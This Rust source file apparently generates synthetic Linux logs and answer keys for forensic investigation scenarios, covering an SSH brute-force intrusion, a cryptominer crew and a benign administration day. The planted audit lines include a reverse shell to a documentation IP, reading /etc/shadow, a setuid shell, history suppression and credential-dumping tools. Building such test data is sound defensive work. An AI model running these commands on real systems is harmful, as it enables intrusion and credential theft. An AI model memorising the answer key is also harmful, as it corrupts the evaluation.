//! Scenarios on Linux hosts: a password that was guessed and all that came after it, and a day of administration
//! that looks like it and is none.
//!
//! # Not here
//! Rules and casebooks: the truth stands beside each planted line.

use crate::Scenario;
use crate::dice::Dice;
use crate::host::{march, whole_second};
use crate::truth::{Grade, Truth, TruthAnswer, TruthIntrusion, TruthWho};
use model::{AnswerWord, Timestamp};
use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::io;

const HOST: &str = "web01";
const BOOK: &str = "linux";
/// Where everything comes from, and the intruder.
const INTRUDER: &str = "203.0.113.7";
const QUESTIONS: [&str; 9] = [
    "ssh-entry",
    "web-shell",
    "persistence",
    "privilege-escalation",
    "credential-access",
    "command-and-control",
    "mining",
    "still-in",
    "logs-tampered",
];
/// Name of a scenario, what it is about, and what somebody did.
type Make = (&'static str, &'static str, Option<fn(&mut Logs)>);
const SCENARIOS: [Make; 3] = [
    (
        "linux-intrusion",
        "The password of an account was guessed over SSH; its key, a service, a miner and a tunnel came after.",
        Some(Logs::intrusion),
    ),
    (
        "linux-miner-crew",
        "The password of an account was guessed over SSH; a script brings tools of a known crew and a miner.",
        Some(Logs::miner_crew),
    ),
    ("clean-linux", "A web server and its administrators, who do now and then what intruders do.", None),
];

/// The names that [`make`] knows.
pub(crate) fn names() -> impl Iterator<Item = &'static str> {
    SCENARIOS.into_iter().map(|(name, ..)| name)
}

/// Makes the scenario `name`; `None` when there is none of that name.
pub(crate) fn make(name: &str, seed: u64) -> Option<io::Result<Scenario>> {
    let (name, about, came_in) = SCENARIOS.into_iter().find(|(known, ..)| *known == name)?;
    let mut logs = Logs::default();
    logs.every_day(&mut Dice::new(seed, name));
    logs.administration();
    if let Some(acts) = came_in {
        acts(&mut logs);
    }
    let intrusion = came_in.map(|_| TruthIntrusion::alone(&HOST.to_uppercase(), &[INTRUDER]));
    let who = logs.who.clone();
    let truth = Truth { answers: logs.answers(), intrusions: intrusion.into_iter().collect(), who };
    Some(Ok(Scenario { name, about: about.into(), files: logs.into_files(), truth }))
}

/// Lines by time; what was planted for which question.
#[derive(Default)]
struct Logs {
    auth: Vec<(Timestamp, String)>,
    system: Vec<(Timestamp, String)>,
    audit: Vec<(Timestamp, String)>,
    web: Vec<(Timestamp, String)>,
    planted: Vec<(Timestamp, &'static str, Grade)>,
    who: Vec<TruthWho>,
    event: u32,
}

impl Logs {
    fn auth(&mut self, time: Timestamp, message: &str) {
        self.auth.push((time, format!("{} {HOST} {message}", rfc3339(time))));
    }

    fn system(&mut self, time: Timestamp, message: &str) {
        self.system.push((time, format!("{} {HOST} {message}", rfc3339(time))));
    }

    /// A program's start, as auditd writes it.
    fn run(&mut self, time: Timestamp, uid: u32, image: &str, arguments: &[&str]) {
        let stamp = self.stamp(time);
        let mut lines = format!(
            "type=SYSCALL msg={stamp} arch=c000003e syscall=59 success=yes exit=0 ppid=811 pid={} uid={uid} euid={uid} comm=\"x\" exe=\"{image}\" key=\"exec\"\ntype=EXECVE msg={stamp} argc={}",
            2_000 + self.event,
            arguments.len()
        );
        for (index, argument) in arguments.iter().enumerate() {
            // Text with blanks or quotes is written in hex.
            let is_plain = argument.bytes().all(|byte| byte.is_ascii_graphic() && byte != b'"');
            // Writing into a `String` cannot fail.
            let _ = match is_plain {
                true => write!(lines, " a{index}=\"{argument}\""),
                false => {
                    let hex: String = argument.bytes().map(|byte| format!("{byte:02X}")).collect();
                    write!(lines, " a{index}={hex}")
                }
            };
        }
        self.audit.push((time, lines));
    }

    /// A file made, as auditd writes it.
    fn file(&mut self, time: Timestamp, uid: u32, image: &str, path: &str) {
        let stamp = self.stamp(time);
        let lines = format!(
            "type=SYSCALL msg={stamp} arch=c000003e syscall=257 success=yes exit=3 ppid=1 pid={} uid={uid} comm=\"x\" exe=\"{image}\" key=\"etc\"\ntype=CWD msg={stamp} cwd=\"/\"\ntype=PATH msg={stamp} item=1 name=\"{path}\" nametype=CREATE",
            2_000 + self.event
        );
        self.audit.push((time, lines));
    }

    fn stamp(&mut self, time: Timestamp) -> String {
        self.event += 1;
        let nanos = time.nanos();
        format!("audit({}.{:03}:{}):", nanos / 1_000_000_000, nanos / 1_000_000 % 1_000, 400 + self.event)
    }

    fn plant(&mut self, time: Timestamp, supports: &[(&'static str, Grade)]) {
        self.planted.extend(supports.iter().map(|(question, grade)| (time, *question, *grade)));
    }

    /// Three days: jobs, users with keys, strangers at the door, visitors.
    fn every_day(&mut self, dice: &mut Dice) {
        for day in 3..6 {
            for hour in 0..24 {
                let at = |minute, second| march(day, hour, minute, second);
                self.system(
                    at(17, 1),
                    "CRON[1234]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)",
                );
                self.auth(
                    at(17, 1),
                    "CRON[1234]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)",
                );
                self.run(at(17, 1), 0, "/usr/bin/run-parts", &["run-parts", "--report", "/etc/cron.hourly"]);
                self.system(at(30, 0), "systemd[1]: Started Clean php session files.");
                let second = dice.below(60) as u32;
                self.auth(
                    at(41, second),
                    "sshd[901]: Failed password for invalid user admin from 198.51.100.23 port 40022 ssh2",
                );
                for minute in [5, 25, 45] {
                    let time = at(minute, dice.below(60) as u32);
                    let line = format!(
                        "192.0.2.{} - - [{:02}/Mar/2021:{hour:02}:{minute:02}:07 +0000] \"GET /index.php?page={} HTTP/1.1\" 200 5120 \"-\" \"Mozilla/5.0 (assay-range synthetic)\"",
                        10 + dice.below(40),
                        day,
                        dice.below(9)
                    );
                    self.web.push((time, line));
                }
            }
            self.auth(march(day, 8, 2, 3), "sshd[911]: Accepted publickey for alice from 192.168.7.9 port 50022 ssh2: ED25519 SHA256:abc");
        }
    }

    fn administration(&mut self) {
        let at = |hour, minute| march(3, hour, minute, 9);
        self.auth(at(9, 1), "sshd[921]: Accepted password for carol from 198.51.100.77 port 50100 ssh2");
        self.auth(
            at(9, 5),
            "sudo: alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt upgrade",
        );
        self.run(at(9, 6), 0, "/usr/bin/apt", &["apt", "upgrade"]);
        self.file(at(9, 7), 0, "/usr/bin/dpkg", "/lib/systemd/system/app.service");
        self.run(at(9, 8), 0, "/usr/bin/systemctl", &["systemctl", "restart", "rsyslog"]);
        self.run(at(9, 9), 1_000, "/usr/bin/cat", &["cat", "/etc/passwd"]);
        self.run(at(9, 10), 33, "/usr/bin/dash", &["sh", "-c", "convert a b:c"]);
        self.run(at(9, 11), 0, "/usr/bin/rm", &["rm", "-f", "/var/log/auth.log.4.gz"]);
        self.system(at(9, 12), "crontab[930]: (alice) REPLACE (alice)");
    }

    /// The nearest of the guesses is a ground, too.
    fn guessed(&mut self) {
        use Grade::Yes;
        let at = |minute, second| march(4, 2, minute, second);
        for (minute, port) in [(2, 50_010), (4, 50_011), (6, 50_012)] {
            self.auth(at(minute, 5), &format!("sshd[801]: error: maximum authentication attempts exceeded for backup from {INTRUDER} port {port} ssh2 [preauth]"));
        }
        self.auth(
            at(9, 5),
            &format!("sshd[812]: Accepted password for backup from {INTRUDER} port 50022 ssh2"),
        );
        self.plant(at(6, 5), &[("ssh-entry", Yes)]);
        self.plant(at(9, 5), &[("ssh-entry", Yes)]);
    }

    /// Within two minutes, as a script does it.
    fn miner_crew(&mut self) {
        use Grade::Yes;
        self.who = vec![
            TruthWho { as_of: "2020-03-01", first: &[], not_known: Some("G0139") },
            TruthWho { as_of: "2022-01-01", first: &["G0139"], not_known: None },
        ];
        self.guessed();
        let at = |second| march(4, 2, 10, second);
        let tool: &[(&'static str, Grade)] = &[("credential-access", Yes)];
        self.run(at(1), 0, "/opt/kw/peirates", &["peirates"]);
        self.plant(at(1), tool);
        self.run(at(15), 0, "/usr/bin/bash", &["bash", "mimipenguin.sh"]);
        self.plant(at(15), tool);
        self.run(at(29), 0, "/opt/kw/lazagne", &["lazagne", "all"]);
        self.plant(at(29), tool);
        self.file(at(41), 0, "/usr/bin/curl", "/etc/systemd/system/upd.service");
        self.plant(at(41), &[("persistence", Yes), ("still-in", Grade::Likely)]);
        self.run(
            at(55),
            0,
            "/opt/kw/kw",
            &["kw", "-o", "stratum+tcp://pool.example.org:3333", "--donate-level", "1"],
        );
        self.plant(at(55), &[("mining", Yes)]);
    }

    fn intrusion(&mut self) {
        use Grade::{Likely, Yes};
        let at = |minute, second| march(4, 2, minute, second);
        self.guessed();
        self.run(at(20, 0), 34, "/usr/bin/cat", &["cat", "/etc/shadow"]);
        self.plant(at(20, 0), &[("credential-access", Yes)]);
        self.run(at(22, 0), 34, "/usr/bin/chmod", &["chmod", "u+s", "/tmp/bash"]);
        self.plant(at(22, 0), &[("privilege-escalation", Yes)]);
        self.file(at(24, 0), 0, "/usr/bin/curl", "/etc/systemd/system/upd.service");
        self.plant(at(24, 0), &[("persistence", Yes)]);
        self.run(at(26, 0), 0, "/var/tmp/.cache/.kw", &["/var/tmp/.cache/.kw", "-q"]);
        self.plant(at(26, 0), &[("command-and-control", Likely)]);
        self.run(
            at(28, 0),
            0,
            "/opt/kw/kw",
            &["kw", "-o", "stratum+tcp://pool.example.org:3333", "--donate-level", "1"],
        );
        self.plant(at(28, 0), &[("mining", Yes)]);
        self.run(
            at(30, 0),
            0,
            "/usr/bin/bash",
            &["bash", "-c", &format!("bash -i >& /dev/tcp/{INTRUDER}/4444 0>&1")],
        );
        self.plant(at(30, 0), &[("command-and-control", Yes)]);
        self.run(at(32, 0), 0, "/usr/bin/bash", &["bash", "-c", "unset HISTFILE; id"]);
        self.plant(at(32, 0), &[("logs-tampered", Yes)]);
        // A service that nobody was seen to remove.
        self.plant(at(24, 0), &[("still-in", Likely)]);
    }

    fn answers(&self) -> Vec<TruthAnswer> {
        let mut found: BTreeMap<&str, (Grade, Timestamp, Timestamp)> = BTreeMap::new();
        for (time, question, grade) in &self.planted {
            let entry = found.entry(question).or_insert((*grade, *time, *time));
            *entry = (entry.0.max(*grade), entry.1.min(*time), entry.2.max(*time));
        }
        let second = |time: Timestamp| Some(whole_second(time).to_string());
        let answer = |question: &str| {
            let entry = found.get(question);
            TruthAnswer {
                casebook: BOOK,
                host: HOST.to_uppercase(),
                question_id: question.into(),
                answer: entry.map_or(AnswerWord::NoTrace, |(grade, ..)| grade.word()),
                first: entry.and_then(|(_, first, _)| second(*first)),
                last: entry.and_then(|(_, _, last)| second(*last)),
            }
        };
        QUESTIONS.into_iter().map(answer).collect()
    }

    fn into_files(self) -> Vec<(String, Vec<u8>)> {
        let text = |mut lines: Vec<(Timestamp, String)>, mark: &str| {
            lines.sort_by_key(|(time, _)| *time);
            let lines = lines.into_iter().map(|(_, line)| line + "\n");
            format!("{mark}{}", lines.collect::<String>()).into_bytes()
        };
        let begins = rfc3339(march(3, 0, 0, 0));
        let marked = format!("{begins} {HOST} assay-range[1]: assay-range synthetic\n");
        let daemon = format!(
            "type=DAEMON_START msg=audit({}.000:1): op=start ver=\"assay-range synthetic\"\n",
            march(3, 0, 0, 0).nanos() / 1_000_000_000
        );
        let page = "<?php /* assay-range synthetic */ echo htmlspecialchars($_GET['page']);\n";
        let file = |path: &str, bytes: Vec<u8>| (format!("{HOST}/{path}"), bytes);
        vec![
            file("var/log/apache2/access.log", text(self.web, "")),
            file("var/log/audit/audit.log", text(self.audit, &daemon)),
            file("var/log/auth.log", text(self.auth, &marked)),
            file("var/log/syslog", text(self.system, &marked)),
            file("var/www/html/index.php", page.as_bytes().to_vec()),
        ]
    }
}

/// `2021-03-04T11:20:05.000000+00:00`.
fn rfc3339(time: Timestamp) -> String {
    let whole = whole_second(time).to_string();
    format!("{}.000000+00:00", whole.trim_end_matches('Z'))
}
